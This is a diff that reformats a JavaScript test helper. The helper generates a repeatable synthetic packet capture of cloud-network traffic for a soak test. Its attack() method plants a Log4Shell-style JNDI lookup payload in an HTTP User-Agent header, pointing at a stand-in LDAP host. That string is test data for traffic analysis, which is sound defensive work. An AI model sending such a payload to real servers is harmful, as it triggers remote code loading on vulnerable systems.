@@ -1,7 +1,7 @@
 /**
  * Makes the capture that the soak plays: what a few hundred hosts of a small cloud network do in half a minute. Web
- * requests and downloads over whole TCP connections, DNS, pings, UDP datagrams in fragments, IPv6, and an attack now and
- * then. The same on every run. Packets are built by the test support, which is TypeScript and is transpiled first.
+ * requests and downloads over whole TCP connections, DNS, pings, UDP datagrams in fragments, IPv6, and an attack now
+ * and then. The same on every run. Packets are built by the test support, which is TypeScript and is transpiled first.
  */
 import { createHash } from 'node:crypto';
 import { mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
@@ -20,11 +20,18 @@ async function loadSupport() {
   try {
     writeFileSync(join(to, 'package.json'), '{"type":"module"}');
     for (const name of ['packet-builder.ts', 'recording.ts', 'application-messages.ts', 'pcap-writer.ts']) {
-      const { outputText } = ts.transpileModule(readFileSync(join(from, name), 'utf8'), { compilerOptions: { target: ts.ScriptTarget.ES2023, module: ts.ModuleKind.ESNext } });
+      const { outputText } = ts.transpileModule(readFileSync(join(from, name), 'utf8'), {
+        compilerOptions: { target: ts.ScriptTarget.ES2023, module: ts.ModuleKind.ESNext },
+      });
       writeFileSync(join(to, name.replace('.ts', '.js')), outputText);
     }
     const load = (name) => import(pathToFileURL(join(to, name)).href);
-    return { ...(await load('packet-builder.js')), ...(await load('recording.js')), ...(await load('application-messages.js')), ...(await load('pcap-writer.js')) };
+    return {
+      ...(await load('packet-builder.js')),
+      ...(await load('recording.js')),
+      ...(await load('application-messages.js')),
+      ...(await load('pcap-writer.js')),
+    };
   } finally {
     rmSync(to, { recursive: true, force: true });
   }
@@ -41,7 +48,10 @@ function randomSource(seed) {
   };
 }
 
-const WORDS = 'the a of cloud item order invoice customer region bucket price table report index image style script update session'.split(' ');
+const WORDS =
+  'the a of cloud item order invoice customer region bucket price table report index image style script update session'.split(
+    ' ',
+  );
 
 class Town {
   constructor(support, random) {
@@ -73,7 +83,8 @@ class Town {
   encrypted(recording) {
     const talk = recording.tcp(`${this.host(1)}:${this.port()}`, `${this.host(3)}:443`).open();
     talk.client(this.noise(517)).server(this.noise(3200)).client(this.noise(90));
-    for (let left = this.random(5); left > 0; left--) talk.client(this.noise(120 + this.random(600))).server(this.noise(400 + this.random(12_000)));
+    for (let left = this.random(5); left > 0; left--)
+      talk.client(this.noise(120 + this.random(600))).server(this.noise(400 + this.random(12_000)));
     talk.close();
   }
 
@@ -88,7 +99,10 @@ class Town {
   ping(recording) {
     const [from, to, id] = [`${this.host(1)}:0`, `${this.host(2)}:0`, this.random(65_536)];
     for (let seq = 0; seq < 3; seq++) {
-      recording.icmp(from, to, { type: 8, id, seq }, this.prose(56)).icmp(to, from, { type: 0, id, seq }, this.prose(56)).wait(1000);
+      recording
+        .icmp(from, to, { type: 8, id, seq }, this.prose(56))
+        .icmp(to, from, { type: 0, id, seq }, this.prose(56))
+        .wait(1000);
     }
   }
 
@@ -110,9 +124,12 @@ class Town {
 
   attack(recording) {
     const { httpRequest, httpResponse } = this.support;
-    recording.tcp(`203.0.113.${1 + this.random(254)}:${this.port()}`, `${this.host(2)}:80`).open()
+    recording
+      .tcp(`203.0.113.${1 + this.random(254)}:${this.port()}`, `${this.host(2)}:80`)
+      .open()
       .client(httpRequest('GET /', { headers: { 'User-Agent': '${jndi:ldap://203.0.113.66:1389/x}' } }))
-      .server(httpResponse('200 OK', 'ok')).close();
+      .server(httpResponse('200 OK', 'ok'))
+      .close();
   }
 }
 
@@ -122,7 +139,10 @@ const MIX = { web: 30, encrypted: 18, dns: 30, ping: 6, fragmented: 8, ipv6: 7, 
 /** Path of a capture with exactly `packets` frames; made when it is not there. */
 export async function trafficCapture(packets) {
   const source = readFileSync(new URL(import.meta.url), 'utf8');
-  const file = join(cacheFolder, `soak-${packets}-${createHash('sha256').update(source).digest('hex').slice(0, 8)}.pcap`);
+  const file = join(
+    cacheFolder,
+    `soak-${packets}-${createHash('sha256').update(source).digest('hex').slice(0, 8)}.pcap`,
+  );
   mkdirSync(cacheFolder, { recursive: true });
   if (readdirSync(cacheFolder).includes(file.slice(cacheFolder.length + 1))) return file;
   const support = await loadSupport();
@@ -135,6 +155,9 @@ export async function trafficCapture(packets) {
     frames.push(...recording.frames);
   }
   const inOrder = frames.toSorted((a, b) => a.timeUs - b.timeUs).slice(0, packets);
-  writeFileSync(file, support.pcapFile(inOrder.map(({ timeUs, bytes }) => ({ timeNs: BigInt(timeUs) * 1000n, bytes }))));
+  writeFileSync(
+    file,
+    support.pcapFile(inOrder.map(({ timeUs, bytes }) => ({ timeNs: BigInt(timeUs) * 1000n, bytes }))),
+  );
   return file;
 }
